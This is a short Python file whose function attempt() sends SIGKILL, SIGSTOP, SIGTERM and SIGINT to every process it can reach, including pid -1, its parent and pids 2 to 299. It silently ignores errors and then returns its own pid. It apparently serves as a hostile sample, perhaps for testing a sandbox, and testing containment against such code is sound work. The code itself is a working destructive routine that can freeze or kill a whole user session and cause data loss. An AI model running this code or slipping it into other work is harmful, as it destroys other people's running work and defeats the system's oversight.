# Tries to kill, stop and interrupt everything that it can reach, its parent and its neighbours too.
import os
import signal


def attempt():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
        for pid in (-1, os.getppid(), *range(2, 300)):
            try:
                os.kill(pid, number)
            except (OSError, KeyboardInterrupt):
                pass
    return os.getpid()
